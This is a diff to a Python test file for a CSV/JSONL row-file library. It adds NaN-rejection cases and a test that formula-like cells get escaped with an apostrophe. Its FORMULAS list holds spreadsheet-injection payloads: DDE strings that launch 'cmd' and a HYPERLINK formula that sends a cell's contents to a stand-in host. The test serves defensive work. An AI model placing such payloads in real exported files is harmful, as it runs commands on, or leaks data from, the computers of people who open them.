@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import os
@@ -101,6 +102,9 @@ def test_a_column_that_gets_a_name_takes_it_from_another(tmp_path):
     ("name", "text", "expected"),
     [
         pytest.param("a.jsonl", '{"a": 1}\n{"a": \n{"a": 3}\n', ("row.not-json", 2, 2), id="JSON"),
+        pytest.param("a.jsonl", '{"a": 1}\n{"a": [NaN]}\n', ("row.nan", 2, 1), id="NaN"),
+        pytest.param("a.jsonl", '{"a": -Infinity}\n', ("row.nan", 1, 0), id="infinite"),
+        pytest.param("a.jsonl", '{"a": "NaN, b}\n', ("row.not-json", 1, 0), id="no number"),
         pytest.param("a.jsonl", '[1]\n{"a": 3}\n', ("row.not-object", 1, 1), id="a list"),
         pytest.param("a.csv", "a,b\n1,2\n1,2,3\n4,5\n", ("row.cells", 3, 2), id="cells"),
         pytest.param("a.csv", 'a,b\n1,2\n"1,2\n4,5\n', ("row.not-csv", 3, 1), id="a quote"),
@@ -158,6 +162,31 @@ def test_wherever_a_kill_cuts_the_file_the_whole_rows_are_there_and_the_next_fol
 
     assert len(before) == whole
     assert (last["id"], str(last["score"])) == ("new", "7")
+
+
+FORMULAS = [
+    "=1+1", "=cmd|' /C calc'!A0", "+SUM(1)", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
+    '- HYPERLINK ("http://h/?"&A1)', "\uff1d1+1", "'=1", "-Sheet2!$A$1",
+]  # fmt: skip
+TEXTS = [
+    "- item", "- an item (see below), and 3 - 2", "-1.5", "+49 30 1234", "+1", "@owl said so!",
+    "'tis", "- Stop! Then go.", "'- item", "--- a line", "a = b",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    ("cell", "is_formula"), [*((one, True) for one in FORMULAS), *((one, False) for one in TEXTS)]
+)
+def test_only_a_formula_has_an_apostrophe_in_a_csv_file_and_is_read_back_without(
+    tmp_path, cell, is_formula
+):
+    path = tmp_path / "rows.csv"
+    with RowFile(path, columns=["text"]) as file:
+        file.append({"text": cell})
+    _, (written,) = csv.reader(path.read_text().splitlines())
+    with RowFile(path, columns=["text"]) as file:
+        assert [row["text"] for row in file.rows] == [cell]
+    assert written == (f"'{cell}" if is_formula else cell)
 
 
 def test_texts_of_a_csv_file_are_in_one_line_and_the_rest_is_json(tmp_path):
